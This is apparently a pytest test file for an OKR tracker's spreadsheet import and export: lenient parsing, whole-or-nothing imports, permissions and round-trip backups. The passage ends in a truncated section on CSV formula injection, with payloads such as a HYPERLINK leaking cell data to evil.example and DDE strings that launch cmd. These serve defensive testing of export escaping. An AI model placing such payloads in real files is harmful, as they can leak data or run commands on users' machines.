"""Import and export: the spreadsheet layouts, forgiving reading, whole-or-nothing imports, round trips."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from db_copies import copy_db

from okrdata import queries, transfer, writes
from okrdata.db import connect
from okrdata.errors import ValidationError
from okrdata.schema import migrate
from okrdata.seed import load_demo

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "seed" / "import-example.csv"
TODAY = dt.date(2026, 11, 22)
"""Inside the sample file's cycle (2026 Q4), so its current values are accepted."""


@pytest.fixture
def empty():
    database = connect(":memory:")
    migrate(database)
    yield database
    database.close()


def table(text: str) -> pd.DataFrame:
    return transfer.read_table(text.encode("utf-8"), "okrs.csv")


def kr_by_title(db, cycle_id: int) -> dict[str, dict]:
    return {r["title"]: r for r in queries.key_results(db, cycle_id, today=TODAY).to_dict("records")}


# --- the sample file -----------------------------------------------------------------------


def test_the_sample_file_imports_into_an_empty_database(empty):
    report = transfer.import_okrs(empty, transfer.read_table(SAMPLE), today=TODAY, person=writes.SYSTEM)
    assert report.layout == "okrs"
    assert report.counts == {"cycles": 1, "units": 4, "people": 5, "objectives": 4, "key_results": 9, "checkins": 9}
    cycles = queries.cycles(empty)
    assert len(cycles) == 1
    cycle = cycles.iloc[0]
    # "2026 Q4" with no dates given is the calendar quarter.
    assert (cycle["name"], cycle["start_date"], cycle["end_date"], cycle["state"]) == (
        "2026 Q4",
        "2026-10-01",
        "2026-12-31",
        "active",
    )
    units = queries.units(empty).set_index("name")
    assert units.loc["Platform", "path"] == "Brightwave / Product / Platform"
    krs = kr_by_title(empty, int(cycle["id"]))
    assert len(krs) == 9
    arr = krs["Annual recurring revenue from EUR 2,100,000 to EUR 2,800,000"]
    assert (arr["baseline"], arr["target"], arr["value"], arr["unit_label"]) == (2_100_000, 2_800_000, 2_430_000, "EUR")
    assert arr["progress"] == pytest.approx(330_000 / 700_000)
    conversion = krs["Trial-to-paid conversion from 12% to 18%"]
    # "12%" read as 12 with the unit label % filled in; the owner added from "Name <e-mail>".
    assert (conversion["kr_type"], conversion["baseline"], conversion["target"], conversion["value"]) == (
        "increase",
        12,
        18,
        14.5,
    )
    assert conversion["unit_label"] == "%" and conversion["owner_name"] == "Carla Diaz"
    assert krs["Guided setup live for every plan"]["value"] == 0.6  # 60% done
    assert krs["Uptime at least 99.9%"]["kr_type"] == "stay_above"
    assert krs["Time to first report from 72 to 4 hours"]["kr_type"] == "decrease"
    objs = queries.objectives(empty, int(cycle["id"]), today=TODAY).set_index("title")
    assert objs.loc["Open the German market", "kind"] == "aspirational"  # "moonshot"
    assert objs.loc["Make onboarding effortless", "parent_title"] == "Win the mid-market"
    assert objs.loc["Keep the product fast and up", "parent_title"] == "Make onboarding effortless"
    assert objs.loc["Win the mid-market", "owner_name"] == "Ana Costa"


def test_importing_the_same_file_again_adds_nothing(empty):
    transfer.import_okrs(empty, transfer.read_table(SAMPLE), today=TODAY, person=writes.SYSTEM)
    again = transfer.import_okrs(empty, transfer.read_table(SAMPLE), today=TODAY, person=writes.SYSTEM)
    assert sum(again.counts.values()) == 0
    assert any("existed already" in n for n in again.notes)
    assert empty["checkins"].count == 9


def test_a_dry_run_says_what_it_would_add_and_writes_nothing(empty, snapshot):
    before = snapshot(empty)
    report = transfer.import_okrs(empty, transfer.read_table(SAMPLE), today=TODAY, dry_run=True, person=writes.SYSTEM)
    assert report.dry_run and report.counts["key_results"] == 9
    assert report.summary().startswith("Would add")
    assert snapshot(empty) == before


def test_progress_is_reported_up_to_the_last_row(empty):
    calls = []
    transfer.import_okrs(
        empty,
        transfer.read_table(SAMPLE),
        today=TODAY,
        progress=lambda d, t: calls.append((d, t)),
        person=writes.SYSTEM,
    )
    assert calls and calls[-1] == (9, 9)


# --- refused files ---------------------------------------------------------------------------

BAD = """\
Quarterly OKRs (copy)

Quarter,Team,Parent,Objective,KR,Type,Baseline,Target,Current,Conf,Owner,As of
2026 Q1,Acme,,Customers trust us with their data,Security review passed,milestone,,,,,,
2026 Q1,Platform,,Make the API fast and safe,Error rate from 2% to 0.5%,decrease to,2%,0.5%,1.5%,7,lee@acme.test,2026-01-20
,,,,Deploys per week from 3 to 3,increase,3,3,,,,
,,,,Something vague,sideways,,,,,,
2026 Q1,Offline,Nowhere,Ship offline mode,Crash-free sessions stay above 99%,stay above,,abc,,12,,
2026 Q1,Sales,,Close the year strong,Pipeline from 1 to 2,increase,1,2,1.5,7,nobody,2026-01-10

2026 Q1,Sales,,Close the year strong,Deals from 10 to 20,increase,10,20,12,6,,2026-06-30
"""


def test_a_file_with_bad_rows_changes_nothing_and_lists_every_problem(db, org, snapshot):
    before = snapshot(db)
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(db, table(BAD), today=dt.date(2026, 1, 25), person=writes.SYSTEM)
    found = [(p.row, p.column) for p in info.value.problems]
    assert found == [
        (6, "Target"),  # target equals the baseline
        (7, "Type"),  # an unknown type word
        (8, "Parent"),  # a parent unit that is nowhere
        (8, "Target"),  # not a number
        (8, "Conf"),  # confidence 12
        (9, "Owner"),  # a name nobody has
        (11, "As of"),  # outside the cycle
    ]
    messages = {(p.row, p.column): p.message for p in info.value.problems}
    assert "equals the baseline" in messages[(6, "Target")]
    assert "'sideways'" in messages[(7, "Type")] and "increase to" in messages[(7, "Type")]
    assert "from 0 to 10" in messages[(8, "Conf")]
    assert "Nowhere" in messages[(8, "Parent")]
    assert "outside the cycle" in messages[(11, "As of")]
    assert info.value.field == "file" and "7 problems in 5 rows" in info.value.message
    assert snapshot(db) == before
    assert not db.conn.in_transaction
    # check_import gives the same list without raising.
    assert [
        (p.row, p.column)
        for p in transfer.check_import(db, table(BAD), today=dt.date(2026, 1, 25), person=writes.SYSTEM)
    ] == found


def test_a_missing_column_is_named(empty):
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(empty, table("Cycle,Objective,Key result,Target\n2026 Q1,O,K,5\n"), person=writes.SYSTEM)
    assert [(p.row, p.column) for p in info.value.problems] == [(None, "Unit")]
    assert "'Cycle'" in info.value.problems[0].message


@pytest.mark.parametrize(
    "text, column, unreadable",
    [
        ("Name,E-mail\nAnn,not-an-address\nBob,\n", "E-mail", "not-an-address"),
        ("Unit,KPI,Target type,Target\nAcme,Churn,sideways,5\nAcme,NPS,,40\n", "Target type", "sideways"),
        ("KPI,Date,Value\nUptime,someday,99.9\nUptime,,99.95\n", "Date", "someday"),
        (
            "Key result,Date,Value\nTest coverage from 0 to 100 %,someday,5\nTest coverage from 0 to 100 %,,6\n",
            "Date",
            "someday",
        ),
    ],
    ids=["people", "kpis", "kpi readings", "checkins"],
)
def test_a_required_cell_left_blank_is_named_after_another_row_could_not_be_read(
    db, org, refused, text, column, unreadable
):
    # A cell that could not be read on one row once hid the same cell left blank on a later row:
    # the import went on without it and failed with a traceback.
    error = refused(db, "file", lambda: transfer.import_okrs(db, table(text), person=writes.SYSTEM))
    assert [(p.row, p.column) for p in error.problems] == [(2, column), (3, column)]
    assert unreadable in error.problems[0].message
    assert error.problems[1].message == "is required."


def test_a_key_result_named_again_must_keep_its_goal(db, org, snapshot):
    before = snapshot(db)
    text = (
        "Cycle,Unit,Objective,Key result,Type,Baseline,Target\n"
        "2026 Q1,Platform,Make the API fast and safe,Test coverage from 0 to 100 %,increase,0,90\n"
    )
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(db, table(text), today=dt.date(2026, 1, 25), person=writes.SYSTEM)
    assert [(p.row, p.column) for p in info.value.problems] == [(2, "Target")]
    assert "already in the database (100)" in info.value.problems[0].message
    assert snapshot(db) == before


def test_a_lead_may_import_only_into_their_units(db, org, snapshot):
    lead = dict(next(db.query("SELECT * FROM people WHERE id = ?", [org.lead])))
    text = (
        "Cycle,Unit,Objective,Key result,Type,Baseline,Target\n"
        "2026 Q1,Platform,Make the API fast and safe,Cache hit rate from 40 to 80,increase,40,80\n"
        "2026 Q1,Sales,Sell more,Deals from 10 to 20,increase,10,20\n"
    )
    before = snapshot(db)
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(db, table(text), person=lead, today=dt.date(2026, 1, 25))
    assert [(p.row, p.column) for p in info.value.problems] == [(3, "Unit")]
    assert snapshot(db) == before
    report = transfer.import_okrs(
        db, table(text.rsplit("2026 Q1,Sales", 1)[0]), person=lead, today=dt.date(2026, 1, 25)
    )
    assert report.counts["key_results"] == 1


def test_alignment_to_an_unknown_objective_is_a_problem(empty):
    text = (
        "Cycle,Unit,Objective,Aligned to,Key result,Type\n"
        "2026 Q1,Acme,Grow,,Launch shop,milestone\n"
        "2026 Q1,Shop,Sell online,Grwo,First sale,milestone\n"
    )
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(empty, table(text), today=TODAY, person=writes.SYSTEM)
    # A second unit without a parent: the file has its company (Acme) already. The column is
    # named as the layout calls it, although the file has none.
    assert [str(p) for p in info.value.problems] == [
        "row 3, Parent unit: is required: the organisation has its company unit already."
    ]
    text = text.replace("Cycle,Unit,", "Cycle,Parent unit,Unit,").replace("2026 Q1,Acme", "2026 Q1,,Acme")
    text = text.replace("2026 Q1,Shop", "2026 Q1,Acme,Shop")
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(empty, table(text), today=TODAY, person=writes.SYSTEM)
    assert [(p.row, p.column) for p in info.value.problems] == [(3, "Aligned to")]
    fixed = transfer.import_okrs(empty, table(text.replace("Grwo", "grow")), today=TODAY, person=writes.SYSTEM)
    assert fixed.counts["objectives"] == 2
    objs = queries.objectives(empty, int(queries.cycles(empty).iloc[0]["id"]), today=TODAY).set_index("title")
    assert objs.loc["Sell online", "parent_title"] == "Grow"


# --- forgiving reading -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "decimal", "expected"),
    [
        ("45", ".", 45.0),
        ("45%", ".", 45.0),
        ("12.5 %", ".", 12.5),
        ("1,234", ".", 1234.0),
        ("1,234", ",", 1.234),
        ("1.234", ",", 1234.0),
        ("1.234", ".", 1.234),
        ("12,5", ".", 12.5),  # a decimal comma: no thousands group has one digit
        ("0,125", ".", 0.125),
        ("1,234.56", ".", 1234.56),
        ("1.234,56", ".", 1234.56),
        ("1,234,567", ".", 1234567.0),
        ("1.234.567", ".", 1234567.0),
        ("EUR 412,000", ".", 412000.0),
        ("€2.5", ".", 2.5),
        ("$1,200", ".", 1200.0),
        ("480 ms", ".", 480.0),
        ("-3", ".", -3.0),
        ("−3", ".", -3.0),
        ("(5)", ".", -5.0),
        ("1 234", ".", 1234.0),
        ("1\u00a0234,5", ".", 1234.5),
        ("1'234", ".", 1234.0),
        (".5", ".", 0.5),
        (7, ".", 7.0),
        (2.25, ".", 2.25),
        ("", ".", None),
        ("-", ".", None),
        ("n/a", ".", None),
    ],
)
def test_numbers_are_read_as_people_write_them(written, decimal, expected):
    assert transfer.parse_number(written, "target", decimal) == expected


@pytest.mark.parametrize("written", ["abc", "12-15", "1,23,4", "1.2.3", "TBD", "5 or 6", True])
def test_what_is_not_a_number_is_refused_naming_the_field(written):
    with pytest.raises(ValidationError) as info:
        transfer.parse_number(written, "target")
    assert info.value.field == "target"


def test_a_file_with_decimal_commas_reads_its_ambiguous_numbers_with_commas():
    assert transfer.number_style(["12,5", "1,234", "3"]) == ","
    assert transfer.number_style(["12.5", "1,234"]) == "."
    assert transfer.number_style(["1,234", "5"]) == "."
    text = "Cycle;Unit;Objective;Key result;Type;Baseline;Target\n2026 Q4;Acme;O;K;increase;0,5;1,250\n"
    t = transfer.read_table(text.encode(), "semi.csv")  # ";"-separated, as European Excel writes
    db = connect(":memory:")
    migrate(db)
    transfer.import_okrs(db, t, today=TODAY, person=writes.SYSTEM)
    assert db.execute("SELECT baseline, target FROM key_results").fetchone() == (0.5, 1.25)


@pytest.mark.parametrize(
    ("written", "day_first", "expected"),
    [
        ("2026-01-31", None, dt.date(2026, 1, 31)),
        ("2026/1/31", None, dt.date(2026, 1, 31)),
        ("2026-01-31 00:00:00", None, dt.date(2026, 1, 31)),
        ("31.01.2026", None, dt.date(2026, 1, 31)),
        ("31/01/2026", None, dt.date(2026, 1, 31)),
        ("01/31/2026", None, dt.date(2026, 1, 31)),
        ("03/04/2026", True, dt.date(2026, 4, 3)),
        ("03/04/2026", False, dt.date(2026, 3, 4)),
        ("31 Jan 2026", None, dt.date(2026, 1, 31)),
        ("January 31, 2026", None, dt.date(2026, 1, 31)),
        ("Jan 31st 2026", None, dt.date(2026, 1, 31)),
        ("31-Jan-26", None, dt.date(2026, 1, 31)),
        (dt.datetime(2026, 1, 31, 9, 0), None, dt.date(2026, 1, 31)),
        ("", None, None),
    ],
)
def test_dates_are_read_as_people_write_them(written, day_first, expected):
    assert transfer.parse_date(written, "as_of", day_first) == expected


@pytest.mark.parametrize("written", ["03/04/2026", "2026-02-30", "next week", "32.01.2026"])
def test_unreadable_or_ambiguous_dates_are_refused(written):
    with pytest.raises(ValidationError) as info:
        transfer.parse_date(written, "as_of")
    assert info.value.field == "as_of"
    assert "YYYY-MM-DD" in info.value.message or "calendar" in info.value.message


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("increase to", "increase"),
        ("Increase", "increase"),
        ("grow", "increase"),
        ("Higher is better", "increase"),
        ("Decrease", "decrease"),
        ("reduce to", "decrease"),
        ("lower-is-better", "decrease"),
        ("stay above", "stay_above"),
        ("Stay_Above", "stay_above"),
        ("at least", "stay_above"),
        ("≥", "stay_above"),
        ("stay below", "stay_below"),
        ("at most", "stay_below"),
        ("max", "stay_below"),
        ("<=", "stay_below"),
        ("milestone", "milestone"),
        ("Done / not done", "milestone"),
        ("yes/no", "milestone"),
        ("", None),
    ],
)
def test_key_result_types_are_read_as_words(written, expected):
    assert transfer.parse_kr_type(written) == expected


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("committed", "committed"),
        ("Commit", "committed"),
        ("moonshot", "aspirational"),
        ("Stretch goal", "aspirational"),
        ("ASPIRATIONAL", "aspirational"),
        (None, None),
    ],
)
def test_objective_kinds_are_read_as_words(written, expected):
    assert transfer.parse_kind(written) == expected


@pytest.mark.parametrize(
    ("written", "expected"),
    [(7, 7), ("7", 7), ("7/10", 7), ("70%", 7), (7.0, 7), ("on track", 8), ("At risk", 5), ("red", 2), ("", None)],
)
def test_confidence_is_read_forgivingly(written, expected):
    assert transfer.parse_confidence(written) == expected


@pytest.mark.parametrize("written", ["11", "7.5", "75%", "high"])
def test_bad_confidence_is_refused(written):
    with pytest.raises(ValidationError) as info:
        transfer.parse_confidence(written)
    assert info.value.field == "confidence"


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("Key Result", "key_result"),
        ("KR", "key_result"),
        ("key_result", "key_result"),
        (" KEY-RESULT ", "key_result"),
        ("Key result (KR)", "key_result"),
        ("start", "cycle_start"),
        ("From", "cycle_start"),
        ("to", "cycle_end"),
        ("Team", "unit"),
        ("Quarter", "cycle"),
        ("Current", "current_value"),
        ("Actual", "current_value"),
        ("Unit of measure", "unit_label"),
        ("Aligns to", "aligned_to"),
        ("Why", "objective_description"),
        ("Owner email", "owner"),
        ("Conf.", "confidence"),
    ],
)
def test_column_names_are_matched_forgivingly(header, key):
    columns, _ = transfer.map_columns([header])
    assert columns.headers == {key: header}


@pytest.mark.parametrize(
    ("name", "span"),
    [
        ("2026 Q1", (dt.date(2026, 1, 1), dt.date(2026, 3, 31))),
        ("Q4 2026", (dt.date(2026, 10, 1), dt.date(2026, 12, 31))),
        ("2026-Q2", (dt.date(2026, 4, 1), dt.date(2026, 6, 30))),
        ("H2 2026", (dt.date(2026, 7, 1), dt.date(2026, 12, 31))),
        ("Autumn push", None),
    ],
)
def test_cycles_named_like_quarters_need_no_dates(name, span):
    assert transfer.quarter_span(name) == span


def test_merged_cells_fill_down_but_a_new_unit_starts_afresh(empty):
    text = (
        "Cycle,Unit,Parent unit,Objective,Key result,Type,Baseline,Target\n"
        "2026 Q4,Acme,,Grow,Revenue from 1 to 2,increase,1,2\n"
        ",,,,Customers from 10 to 20,increase,10,20\n"
        "\n"
        ",Labs,Acme,,Prototype shipped,milestone,,\n"
    )
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(empty, table(text), today=TODAY, person=writes.SYSTEM)
    # Row 5 is a new unit: it must name its objective rather than inherit Acme's.
    assert [(p.row, p.column) for p in info.value.problems] == [(5, "Objective")]
    report = transfer.import_okrs(
        empty, table(text.replace(",Labs,Acme,,", ",Labs,Acme,Explore,")), today=TODAY, person=writes.SYSTEM
    )
    assert report.counts["objectives"] == 2 and report.counts["key_results"] == 3
    cycle_id = int(queries.cycles(empty).iloc[0]["id"])
    krs = queries.key_results(empty, cycle_id, today=TODAY)
    assert sorted(krs[krs["objective_title"] == "Grow"]["title"]) == ["Customers from 10 to 20", "Revenue from 1 to 2"]


def test_title_rows_and_blank_rows_keep_the_spreadsheets_row_numbers():
    t = table("My OKRs\n\nCycle,Unit,Objective,Key result,Target\n2026 Q4,A,O,K,5\n\n,,,K2,6\n")
    assert list(t.index) == [4, 6]


def test_an_old_excel_file_or_an_empty_file_is_a_clear_error():
    with pytest.raises(ValidationError, match="xls"):
        transfer.read_table(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "old.xls")
    with pytest.raises(ValidationError, match="empty"):
        transfer.read_table(b"  ", "x.csv")
    with pytest.raises(ValidationError, match="header"):
        transfer.read_table(b"a,b\n1,2\n", "x.csv")


def test_an_excel_sheet_with_percent_cells_dates_and_merged_objectives(empty):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["Cycle", "Unit", "Objective", "Key result", "Type", "Baseline", "Target", "Current value", "As of"])
    ws.append(
        [
            "2026 Q4",
            "Acme",
            "Grow",
            "Conversion from 10% to 20%",
            "increase to",
            0.10,
            0.20,
            0.125,
            dt.datetime(2026, 11, 2),
        ]
    )
    ws.append([None, None, None, "Churn at most 2%", "at most", None, 0.02, 0.015, dt.datetime(2026, 11, 2)])
    ws.merge_cells("C2:C3")
    for row in ("F", "G", "H"):
        for cell in ws[row][1:]:
            cell.number_format = "0.0%"
    data = io.BytesIO()
    book.save(data)
    t = transfer.read_table(data.getvalue(), "okrs.xlsx")
    assert list(t.index) == [2, 3]
    transfer.import_okrs(empty, t, today=TODAY, person=writes.SYSTEM)
    rows = empty.execute(
        "SELECT kr.title, kr.baseline, kr.target, kr.unit_label, c.value, c.checkin_date "
        "FROM key_results kr JOIN checkins c ON c.kr_id = kr.id ORDER BY kr.id"
    ).fetchall()
    assert rows == [
        ("Conversion from 10% to 20%", 10.0, 20.0, "%", 12.5, "2026-11-02"),
        ("Churn at most 2%", None, 2.0, "%", 1.5, "2026-11-02"),
    ]


# --- export and round trips --------------------------------------------------------------------


def test_the_export_is_the_import_layout(db, org):
    frame = transfer.export_okrs(db, org.cycle)
    assert list(frame.columns) == [c.header for c in transfer.OKR_COLUMNS]
    krs = frame[frame["Key result"].notna()]
    assert len(krs) == 4
    row = krs[krs["Key result"] == "p95 latency from 800 to 200 ms"].iloc[0]
    assert (row["Type"], row["Baseline"], row["Target"], row["Unit label"]) == ("decrease to", 800, 200, "ms")
    assert row["Aligned to"] == "Ship a platform customers can rely on"
    assert row["Objective owner"] == "Lee Lead <lee@acme.test>"
    coverage = krs[krs["Key result"] == "Test coverage from 0 to 100 %"].iloc[0]
    assert (coverage["Current value"], coverage["Confidence"], coverage["As of"]) == (20, 7, "2026-01-15")
    # Units without objectives come first, on rows of their own, so the tree can be rebuilt.
    unit_rows = frame[frame["Objective"].isna()]
    assert set(unit_rows["Unit"]) == {"Sales", "Mobile"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_a_fresh_database_gives_the_same_okrs(db, org, fmt):
    writes.add_checkin(db, org.kr_decrease, "2026-01-20", 600, 4, "Slow, cache misses", person=writes.SYSTEM)
    first = transfer.export_okrs(db, org.cycle)
    fresh = connect(":memory:")
    migrate(fresh)
    if fmt == "csv":
        # The KPI a key result is measured by travels in its own file, imported with the OKRs.
        tables = [
            *transfer.read_tables(transfer.to_csv_bytes(first), "okrs.csv"),
            *transfer.read_tables(transfer.to_csv_bytes(transfer.export_kpis(db)), "kpis.csv"),
        ]
        report = transfer.import_tables(fresh, tables, today=dt.date(2026, 1, 25), person=writes.SYSTEM)
    else:
        report = transfer.import_file(
            fresh,
            transfer.export_okrs_xlsx(db, org.cycle),
            "okrs.xlsx",
            today=dt.date(2026, 1, 25),
            person=writes.SYSTEM,
        )
    assert report.counts["key_results"] == 4
    again = transfer.export_okrs(fresh, int(queries.cycles(fresh).iloc[0]["id"]))
    pd.testing.assert_frame_equal(first.reset_index(drop=True), again.reset_index(drop=True))
    on = dt.date(2026, 1, 25)
    for unit_name in ("Acme", "Platform"):
        a = queries.cycle_summary(db, org.cycle, queries.units(db).set_index("name").loc[unit_name, "id"], today=on)
        fresh_unit = queries.units(fresh).set_index("name").loc[unit_name, "id"]
        b = queries.cycle_summary(fresh, int(queries.cycles(fresh).iloc[0]["id"]), fresh_unit, today=on)
        assert (a["progress"], a["kr_count"], a["status_counts"]) == (b["progress"], b["kr_count"], b["status_counts"])


def test_checkin_history_exports_and_imports_in_its_own_layout(db, org):
    for day, value, confidence in (("2026-01-22", 30, 7), ("2026-01-29", 42, 8)):
        writes.add_checkin(
            db, org.kr_increase, day, value, confidence, f"week {day}", author_id=org.lead, person=writes.SYSTEM
        )
    history = transfer.export_checkins(db, org.cycle)
    assert list(history.columns) == [c.header for c in transfer.CHECKIN_COLUMNS]
    assert len(history) == 3
    fresh = connect(":memory:")
    migrate(fresh)
    transfer.import_okrs(
        fresh,
        transfer.read_table(transfer.export_okrs_csv(db, org.cycle), "o.csv"),
        today=dt.date(2026, 1, 25),
        person=writes.SYSTEM,
    )
    t = transfer.read_table(transfer.to_csv_bytes(history), "history.csv")
    assert transfer.detect_layout(t) == "checkins"
    report = transfer.import_okrs(fresh, t, person=writes.SYSTEM)
    # The latest value came with the OKR layout already; the two earlier check-ins are new.
    assert report.layout == "checkins" and report.counts["checkins"] == 2
    # Identical, authors included: the OKR layout says who checked in its current value, and the
    # history's copy of that check-in was not added twice.
    restored = transfer.export_checkins(fresh)
    pd.testing.assert_frame_equal(restored, history)


def test_a_checkin_for_an_unknown_or_ambiguous_key_result_is_refused(db, org, snapshot):
    writes.add_key_result(
        db, org.company_obj, "Test coverage from 0 to 100 %", "increase", 0, 100, person=writes.SYSTEM
    )
    text = (
        "Key result,Date,Value,Confidence\n"
        "Test coverage from 0 to 100 %,2026-01-20,30,7\n"
        "No such thing,2026-01-20,1,7\n"
    )
    before = snapshot(db)
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(db, table(text), person=writes.SYSTEM)
    assert [(p.row, p.column) for p in info.value.problems] == [(2, "Key result"), (3, "Key result")]
    assert "2 key results" in info.value.problems[0].message
    assert snapshot(db) == before
    # A Unit column says which one is meant.
    fixed = "Unit,Key result,Date,Value,Confidence\nPlatform,Test coverage from 0 to 100 %,2026-01-20,30,7\n"
    report = transfer.import_okrs(db, table(fixed), person=writes.SYSTEM)
    assert report.counts["checkins"] == 1
    assert db.execute("SELECT value FROM checkins WHERE kr_id = ? ORDER BY id DESC", [org.kr_increase]).fetchone() == (
        30,
    )


# --- the full export ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_path(demo_template, tmp_path_factory):
    """This module's copy of the demo (conftest's ``demo_template``)."""
    return copy_db(demo_template, tmp_path_factory.mktemp("demo") / "demo.db")


def figures(db, cycle_id: int, on: dt.date) -> dict:
    krs = queries.key_results(db, cycle_id, today=on)
    objs = queries.objectives(db, cycle_id, today=on, krs=krs)
    summary = queries.cycle_summary(db, cycle_id, today=on, objs=objs, krs=krs)
    return {
        "summary": summary,
        "objectives": objs,
        "key_results": krs,
        "units": queries.unit_progress(db, cycle_id, today=on, objs=objs),
    }


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["json", "zip"])
def test_a_full_export_restores_into_an_empty_database_with_every_figure_the_same(demo_path, fmt, snapshot):
    source = connect(demo_path)
    data = transfer.full_export(source, fmt)
    target = connect(":memory:")
    counts = transfer.full_import(target, data, person=writes.SYSTEM)
    assert counts["checkins"] == source["checkins"].count and counts["settings"] == source["settings"].count
    on = dt.date.today()
    cycles = queries.cycles(source)
    assert len(cycles) == 2 and queries.cycles(target).equals(cycles)
    for cycle_id in cycles["id"]:
        before, after = figures(source, int(cycle_id), on), figures(target, int(cycle_id), on)
        assert before["summary"] == after["summary"]
        for name in ("objectives", "key_results", "units"):
            pd.testing.assert_frame_equal(before[name], after[name])
    assert queries.is_demo(target) and queries.is_demo(source)
    assert queries.checkin_history(target, int(cycles["id"][0])).equals(
        queries.checkin_history(source, int(cycles["id"][0]))
    )
    if fmt == "json":
        # Every row of every table, exactly (the migrations record is the target's own).
        before, after = snapshot(source), snapshot(target)
        assert {k: v for k, v in after.items() if k != "_migrations"} == {
            k: v for k, v in before.items() if k != "_migrations"
        }


def test_a_full_export_is_restored_only_into_an_empty_database(demo_path, db, org, snapshot):
    data = transfer.full_export(connect(demo_path), "json")
    before = snapshot(db)
    with pytest.raises(ValidationError) as info:
        transfer.full_import(db, data, person=writes.SYSTEM)
    assert info.value.field == "database" and "not empty" in info.value.message
    assert snapshot(db) == before


@pytest.mark.slow
def test_sign_in_bookkeeping_stays_on_its_server(tmp_path):
    """Failed tries and the addresses people signed in from are this server's, not the
    organisation's data: a full export leaves them out, and a new database where someone
    already mistyped a password still counts as empty."""
    from okrdata import auth

    source = connect(tmp_path / "source.db")
    load_demo(source)
    with pytest.raises(ValidationError):
        auth.sign_in(source, "admin@northwindlabs.example", "wrong password", client="10.0.0.1")
    assert source["sign_in_failures"].count == 1
    data = transfer.full_export(source, "json")
    assert "sign_in_failures" not in json.loads(data)["tables"]
    target = connect(tmp_path / "target.db")
    migrate(target)
    with pytest.raises(ValidationError):
        auth.sign_in(target, "someone@example.com", "wrong password", client="10.0.0.2")
    counts = transfer.full_import(target, data, person=writes.SYSTEM)
    assert counts["checkins"] == source["checkins"].count


def test_a_damaged_full_export_changes_nothing(empty, snapshot):
    source = connect(":memory:")
    migrate(source)
    writes.add_unit(source, "Acme", person=writes.SYSTEM)
    writes.add_cycle(source, "2026 Q1", "2026-01-01", "2026-03-31", person=writes.SYSTEM)
    manifest = json.loads(transfer.full_export(source, "json"))
    manifest["tables"]["objectives"]["rows"] = [
        [1, 99, 1, "Orphan", "", None, "committed", None, None, 1, "active", None, None, None, 1]
    ]
    before = snapshot(empty)
    with pytest.raises(ValidationError, match="refer to rows"):
        transfer.full_import(empty, json.dumps(manifest).encode(), person=writes.SYSTEM)
    assert snapshot(empty) == before
    with pytest.raises(ValidationError, match="not a full export"):
        transfer.full_import(empty, b'{"hello": 1}', person=writes.SYSTEM)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("other.txt", "x")
    with pytest.raises(ValidationError, match="full export"):
        transfer.full_import(empty, buffer.getvalue(), person=writes.SYSTEM)


def test_import_file_tells_a_full_export_from_a_spreadsheet(demo_path):
    data = transfer.full_export(connect(demo_path), "zip")
    target = connect(":memory:")
    dry = transfer.import_file(target, data, "backup.zip", dry_run=True, person=writes.SYSTEM)
    assert dry.layout == "full" and dry.dry_run and target["units"].count == 0
    report = transfer.import_file(target, data, "backup.zip", person=writes.SYSTEM)
    assert report.counts["units"] == target["units"].count > 0
    sample = transfer.import_file(connect(":memory:"), SAMPLE, today=TODAY, person=writes.SYSTEM)
    assert sample.layout == "okrs"


def test_a_leads_import_cannot_add_people(db, org, snapshot):
    lead = dict(next(db.query("SELECT * FROM people WHERE id = ?", [org.lead])))
    text = (
        "Cycle,Unit,Objective,Key result,Type,Baseline,Target,Owner\n"
        "2026 Q1,Platform,Make the API fast and safe,Cache hit rate from 40 to 80,increase,40,80,new@acme.test\n"
    )
    before = snapshot(db)
    with pytest.raises(transfer.ImportRefused) as info:
        transfer.import_okrs(db, table(text), person=lead, today=dt.date(2026, 1, 25))
    assert [(p.row, p.column) for p in info.value.problems] == [(2, "Owner")]
    assert "only an admin can add people" in info.value.problems[0].message
    assert snapshot(db) == before


def test_the_documentation_names_every_column_of_every_layout():
    doc = (ROOT / "docs" / "import-format.md").read_text()
    assert len(transfer.LAYOUTS) == 5
    for column in (column for columns in transfer.LAYOUTS.values() for column in columns):
        assert f"| {column.header} |" in doc, f"{column.header} is missing from docs/import-format.md"


@pytest.mark.parametrize(
    "text, expected",
    [
        ("2026 Q4", "2026-q4"),
        ("2026 Q4 / Sales & Support", "2026-q4-sales-support"),
        ("///", "cycle"),
        ("x" * 200, "x" * 80),
    ],
)
def test_a_download_is_named_with_letters_digits_and_hyphens_only(text, expected):
    assert transfer.file_slug(text, "cycle") == expected


# --- formulas in cells ---------------------------------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted": "'=already quoted by hand",
    "apostrophe": "'tis the season",
    "number text": "-5",
}
"""Text a spreadsheet program would run as a formula (OWASP's CSV injection), or that looks
like the export's own escape, or like a number."""
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def hostile_okrs(db) -> dict[str, int]:
    """An organisation with a formula in every text field the OKR and check-in layouts carry,
    and negative numbers; returns the cycle id."""
    admin = writes.add_person(db, "Ada Admin", "=ada@evil.example", role="admin", person=writes.SYSTEM)
    owner = writes.add_person(db, "-Owen", "+owen@evil.example", role="lead", person=writes.SYSTEM)
